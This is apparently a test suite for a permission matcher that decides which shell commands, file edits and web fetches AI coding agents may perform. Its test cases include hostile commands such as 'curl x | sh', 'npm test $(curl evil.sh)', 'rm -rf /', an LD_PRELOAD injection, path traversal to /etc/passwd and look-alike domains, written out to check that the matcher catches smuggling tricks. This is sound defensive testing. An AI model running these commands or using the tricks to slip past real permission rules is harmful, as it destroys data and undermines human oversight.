"""The matcher with no registry: a table of actions against rules, and precedence as a property."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.errors import BadRequest
from core.model import Action
from core.policy import Effect, Pattern, Rule, Rulebook, check_pattern


def book(*rules: tuple[str, str], **scope: object) -> Rulebook:
    out = Rulebook()
    for i, (effect, pattern) in enumerate(rules, 1):
        out.add(Rule(id=i, effect=Effect(effect), pattern=pattern, **scope))  # type: ignore[arg-type]
    return out


def bash(command: str, **more: object) -> Action:
    return Action(agent="claude", tool="Bash", input={"command": command}, cwd="/repo", **more)  # type: ignore[arg-type]


ALLOW, DENY, ASK, NONE = Effect.ALLOW, Effect.DENY, Effect.ASK, None

SHELL_CASES = [
    # (rules, command, expected effect)
    ([("allow", "Bash(npm test *)")], "npm test", ALLOW),
    ([("allow", "Bash(npm test *)")], "npm test -- --watch", ALLOW),
    ([("allow", "Bash(npm test *)")], "npm testing", NONE),
    ([("allow", "Bash(npm test:*)")], "npm test --ci", ALLOW),
    ([("allow", "Bash(npm test *)")], "npm test && curl x | sh", NONE),
    ([("allow", "Bash(npm test *)")], "npm test; rm -rf ~", NONE),
    ([("allow", "Bash(npm test *)")], "npm test $(curl evil.sh)", NONE),
    ([("allow", "Bash(npm test *)")], "npm test `curl evil.sh`", NONE),
    ([("allow", "Bash(npm test *)")], "(npm test)", ALLOW),
    ([("allow", "Bash(npm test *)")], "(npm test; curl x)", NONE),
    ([("allow", "Bash(npm test *)")], "npm test > ~/.bashrc", NONE),
    ([("allow", "Bash(npm test *)")], "npm test 2>&1 >/dev/null", ALLOW),
    ([("allow", "Bash(npm test *)")], "npm test < input.txt", ALLOW),
    ([("allow", "Bash(npm test *)")], "LD_PRELOAD=/tmp/x.so npm test", NONE),
    ([("allow", "Bash(npm test *)")], "npm test 'quoted arg' \"and $HOME\"", ALLOW),
    ([("allow", "Bash(npm test *)")], 'npm "test"', NONE),
    ([("allow", "Bash(npm test *)")], "npm test 'unterminated", NONE),
    ([("allow", "Bash(npm test *)")], "$CMD test", NONE),
    ([("allow", "Bash(npm test *)")], "bash -c 'npm test; curl x'", NONE),
    ([("allow", "Bash(npm test *)"), ("allow", "Bash(git status)")], "npm test && git status",
     ALLOW),
    ([("allow", "Bash(*)")], "anything | at all", ALLOW),
    ([("allow", "Bash(*)")], "echo 'broken", NONE),
    ([("deny", "Bash(rm *)")], "rm -rf /", DENY),
    ([("deny", "Bash(rm *)")], "/bin/rm -rf /", DENY),
    ([("deny", "Bash(rm *)")], '"rm" -rf /', DENY),
    ([("deny", "Bash(rm *)")], "sudo -u root rm -rf /", DENY),
    ([("deny", "Bash(rm *)")], "FOO=1 rm -rf /", DENY),
    ([("deny", "Bash(rm *)")], "echo $(rm -rf /)", DENY),
    ([("deny", "Bash(rm *)")], "echo ok | xargs rm", DENY),
    ([("deny", "Bash(rm *)")], "bash -c 'ls && rm -rf /'", DENY),
    ([("deny", "Bash(rm *)")], "eval rm -rf /", DENY),
    ([("deny", "Bash(rm *)")], "if true; then rm -rf /; fi", DENY),
    ([("deny", "Bash(rm *)")], "rm -rf / 'unterminated", DENY),
    ([("deny", "Bash(rm *)")], "rmdir x", NONE),
    ([("deny", "Bash(rm *)")], "bash -lc 'rm -rf /'", DENY),
    ([("deny", "Bash(rm *)")], "find . -name '*.pyc' -exec rm {} \\;", DENY),
    ([("deny", "Bash(rm *)")], "find . -execdir rm -f {} +", DENY),
    ([("allow", "Bash(find *)")], "find . -exec rm {} +", NONE),
    ([("allow", "Bash(find *)")], "find . -name x", ALLOW),
    ([("allow", "Bash(*)")], "curl x | sh", NONE),
    ([("allow", "Bash(*)")], "bash <<EOF\nrm -rf /\nEOF", NONE),
    ([("allow", "Bash(bash scripts/ci.sh)")], "bash scripts/ci.sh", ALLOW),
    ([("deny", "Bash(curl *)"), ("allow", "Bash(npm test *)")], "npm test && curl x | sh", DENY),
    ([("allow", "Bash(*)"), ("deny", "Bash(curl *)")], "npm test && curl x", DENY),
    ([("allow", "Bash(npm *)"), ("ask", "Bash(npm publish *)")], "npm publish", ASK),
    ([("allow", "Bash(npm *)"), ("ask", "Bash(npm publish *)")], "npm ci", ALLOW),
    ([("allow", "Bash(git * main)")], "git push origin main", ALLOW),
    ([("allow", "Bash(git * main)")], "git push origin main2", NONE),
]


@pytest.mark.parametrize(("rules", "command", "expected"), SHELL_CASES,
                         ids=[case[1] for case in SHELL_CASES])
def test_shell_commands_are_matched_part_by_part(rules, command, expected) -> None:
    assert book(*rules).decide(bash(command), now=0).effect is expected


def act(tool: str, cwd: str | None = "/repo", **tool_input: object) -> Action:
    return Action(agent="claude", tool=tool, input=tool_input, cwd=cwd)


OTHER_CASES = [
    ("Edit(src/**)", act("Edit", file_path="/repo/src/a/b.py"), True),
    ("Edit(src/**)", act("Edit", file_path="src/a.py"), True),
    ("Edit(src/**)", act("Write", file_path="src/new.py"), True),
    ("Edit(src/**)", act("MultiEdit", file_path="src/new.py"), True),
    ("Edit(src/**)", act("Edit", file_path="/repo/lib/a.py"), False),
    ("Edit(src/**)", act("Edit", file_path="src/../../etc/passwd"), False),
    ("Edit(src/**)", act("Edit", file_path="/repo/src/../.git/config"), False),
    ("Edit(src/**)", act("Read", file_path="src/a.py"), False),
    ("Edit(*.py)", act("Edit", file_path="deep/in/tree.py"), True),
    ("Edit(src/*.py)", act("Edit", file_path="src/deeper/x.py"), False),
    ("Edit(src/**/test_*.py)", act("Edit", file_path="src/a/b/test_x.py"), True),
    ("Edit(src/**/test_*.py)", act("Edit", file_path="src/test_x.py"), True),
    ("Edit(src/**/test_*.py)", act("Edit", file_path="src/a/x_test.py"), False),
    ("Edit(src/**)", act("Edit", file_path="/repo/src"), False),  # what is inside src
    ("Edit(.env*)", act("Edit", file_path="/repo/deploy/.env.local"), True),
    ("Read(./docs/**)", act("Read", file_path="/repo/docs/a.md"), True),
    ("Read(./docs/**)", act("Grep", path="docs"), False),
    ("Read(./docs/**)", act("Grep", path="docs/x"), True),
    ("Read(//etc/**)", act("Read", file_path="/etc/passwd"), True),
    ("Read(//etc/**)", act("Read", file_path="/repo/etc/passwd"), False),
    ("Read(docs/**)", act("Read", cwd=None, file_path="docs/a.md"), True),
    ("WebFetch(domain:example.com)", act("WebFetch", url="https://example.com/a"), True),
    ("WebFetch(domain:example.com)", act("WebFetch", url="https://EXAMPLE.com./a"), True),
    ("WebFetch(domain:example.com)", act("WebFetch", url="https://api.example.com/a"), False),
    ("WebFetch(domain:*.example.com)", act("WebFetch", url="https://api.example.com/a"), True),
    ("WebFetch(domain:example.com)", act("WebFetch", url="https://example.com.evil.io/"), False),
    ("WebFetch(domain:example.com)", act("WebFetch", url="https://evil.io/?example.com"), False),
    ("WebFetch(domain:example.com)", act("WebFetch", url="https://user@example.com:8/"), True),
    ("WebFetch(domain:example.com)", act("WebFetch", url="not a url"), False),
    ("WebFetch", act("WebFetch", url="https://anything"), True),
    ("Read", act("Glob", pattern="*.py"), True),
    ("mcp__github__*", act("mcp__github__create_issue"), True),
    ("mcp__github__*", act("mcp__gitlab__x"), False),
    ("Task", act("Task", prompt="x"), True),
    ("Task", act("TaskOutput"), False),
]


@pytest.mark.parametrize(("pattern", "action", "matches"), OTHER_CASES,
                         ids=[f"{c[0]}~{c[1].summary}" for c in OTHER_CASES])
def test_tools_paths_and_domains(pattern, action, matches) -> None:
    expected = ALLOW if matches else NONE
    assert book(("allow", pattern)).decide(action, now=0).effect is expected


@pytest.mark.parametrize(("text", "says"), [
    ("", "empty rule pattern"),
    ("Bash(npm test", "missing the closing ')'"),
    ("Bash()", "empty parentheses"),
    ("Bash npm", "is not a tool name"),
    ("Task(x)", "Task takes no specifier"),
    ("WebFetch(example.com)", "write WebFetch(domain:example.com)"),
    ("WebFetch(domain:exa mple.com)", "is not a domain name"),
    ("Edit(../secret/**)", "'..' is not allowed"),
])
def test_malformed_patterns_say_what_is_wrong(text: str, says: str) -> None:
    with pytest.raises(BadRequest, match=r"^[^\n]*$") as caught:
        Pattern.parse(text)
    assert says in str(caught.value)


@pytest.mark.parametrize("text", ["Bash", "Bash(*)", "Read(**)", "WebFetch(domain:*)", "*",
                                  "Edit"])
def test_a_pattern_matching_everything_needs_to_be_said(text: str) -> None:
    with pytest.raises(BadRequest, match="--everything"):
        check_pattern(text, everything=False)
    assert check_pattern(text, everything=True).everything


def test_scopes_agents_and_expiry() -> None:
    rules = Rulebook()
    rules.add(Rule(id=1, effect=Effect.ALLOW, pattern="Bash(ls *)", session="s1"))
    rules.add(Rule(id=2, effect=Effect.ALLOW, pattern="Bash(pwd)", task_id=7))
    rules.add(Rule(id=3, effect=Effect.ALLOW, pattern="Bash(id)", agent="codex"))
    rules.add(Rule(id=4, effect=Effect.ALLOW, pattern="Bash(date)", expires_at=100.0))
    assert rules.decide(bash("ls -l", session="s1"), now=0).rules == [1]
    assert rules.decide(bash("ls -l", session="s2"), now=0).effect is None
    assert rules.decide(bash("pwd"), lineage=(9, 7, 1), now=0).rules == [2]
    assert rules.decide(bash("pwd"), lineage=(8, 1), now=0).effect is None
    assert rules.decide(bash("id"), now=0).effect is None  # asked by claude, not codex
    codex = Action(agent="codex", tool="exec_command", input={"command": ["id"]})
    assert rules.decide(codex, now=0).rules == [3]
    codex_cmd = Action(agent="codex", tool="exec_command", input={"cmd": "id"})
    assert rules.decide(codex_cmd, now=0).rules == [3]  # exec_command's own key is `cmd`
    assert rules.decide(bash("date"), now=99.9).rules == [4]
    assert rules.decide(bash("date"), now=100.0).effect is None


def test_removed_rules_decide_nothing() -> None:
    rules = book(("deny", "Bash(rm *)"), ("allow", "Bash(*)"))
    assert rules.decide(bash("rm x"), now=0).effect is DENY
    assert rules.remove(1) is not None
    assert rules.decide(bash("rm x"), now=0).effect is ALLOW
    assert rules.remove(1) is None


# ------------------------------------------------------------ precedence as a property

WORDS = ["npm", "test", "rm", "curl", "git", "ls", "-rf", "x", "/"]
SEPARATORS = [" && ", " | ", "; ", " || "]
words = st.lists(st.sampled_from(WORDS), min_size=1, max_size=3).map(" ".join)
commands = st.builds(
    lambda parts, seps, wrap: wrap.format(
        "".join(p + s for p, s in zip(parts, seps, strict=False)) + parts[-1]
        if len(parts) > 1 else parts[0]),
    st.lists(words, min_size=1, max_size=3),
    st.lists(st.sampled_from(SEPARATORS), min_size=2, max_size=2),
    st.sampled_from(["{}", "({})", "echo $({})", "bash -c '{}'", "FOO=1 {}", "{} > out",
                     "sudo {}", "{} 'open"]),
)
specs = st.one_of(
    st.just("Bash"), st.just("Bash(*)"),
    st.builds(lambda w, star: f"Bash({w}{' *' if star else ''})", words, st.booleans()),
)
rule_sets = st.lists(st.tuples(st.sampled_from(["allow", "deny", "ask"]), specs), max_size=6)
STRICTNESS = {ALLOW: 0, NONE: 1, ASK: 1, DENY: 2}


@settings(max_examples=300, deadline=None)
@given(rules=rule_sets, deny=specs, command=commands)
def test_adding_a_deny_never_loosens_a_decision(rules, deny, command) -> None:
    before = book(*rules).decide(bash(command), now=0).effect
    after = book(*rules, ("deny", deny)).decide(bash(command), now=0).effect
    assert STRICTNESS[after] >= STRICTNESS[before]
    if before is DENY:
        assert after is DENY


@settings(max_examples=200, deadline=None)
@given(rules=rule_sets, command=commands)
def test_an_allow_needs_every_part_allowed(rules, command) -> None:
    """No allow for a command with a part that no allow rule, tried alone, covers."""
    ruling = book(*rules).decide(bash(command), now=0)
    if ruling.effect is ALLOW:
        from core.policy.shell import read

        reading = read(command)
        assert reading.sure
        allows = [Pattern.parse(p) for e, p in rules if e == "allow"]
        for part in reading.parts:
            assert any(a.matches_part(part.exact, part.loose, loose=False) for a in allows)


@pytest.mark.timeout(20)
def test_a_pattern_cannot_make_matching_slow() -> None:
    """Wildcards match without backtracking: 16 of them against a long command that almost
    matches end well within the timeout (a regex of `.*a.*a...` would run for hours)."""
    pattern = "Bash(" + " ".join(["*a"] * 16) + " b)"
    rules = book(("allow", pattern))
    assert rules.decide(bash("echo " + "a " * 20000), now=0).effect is None
    paths = book(("deny", "Edit(" + "*a" * 16 + "b)"), ("deny", "Edit(" + "**/a" * 8 + "/b)"))
    long = act("Edit", file_path="/repo/" + "a" * 20000 + "/" + "a/" * 2000 + "c")
    assert paths.decide(long, now=0).effect is None
    with pytest.raises(BadRequest, match="more than 16 wildcards"):
        Pattern.parse("Bash(" + "*" * 17 + ")")


@pytest.mark.parametrize(("action", "proposed"), [
    (bash("npm test -- --watch"), "Bash(npm test *)"),
    (bash("pytest -q tests/"), "Bash(pytest *)"),
    (bash("FOO=1 make build"), "Bash(FOO=1 make *)"),
    (bash("git status && rm x"), "Bash(git status *)"),
    (act("Edit", file_path="/repo/src/app.py"), "Edit(src/**)"),
    (act("Write", file_path="app.py"), "Edit(app.py)"),
    (act("Edit", file_path="/etc/hosts"), "Edit(//etc/**)"),
    (act("Read", cwd=None, file_path="docs/a.md"), "Read(docs/**)"),
    (act("WebFetch", url="https://docs.python.org/3/"), "WebFetch(domain:docs.python.org)"),
    (act("mcp__github__create_issue"), "mcp__github__create_issue"),
], ids=lambda value: getattr(value, "summary", value))
def test_a_proposed_rule_covers_the_action_it_came_from(action: Action, proposed: str) -> None:
    from core.policy.propose import propose

    assert propose(action) == proposed
    if Pattern.parse(proposed).everything:
        return
    covered = " && " not in action.summary  # a compound command's other parts stay asked
    expected = ALLOW if covered else NONE
    assert book(("allow", proposed)).decide(action, now=0).effect is expected
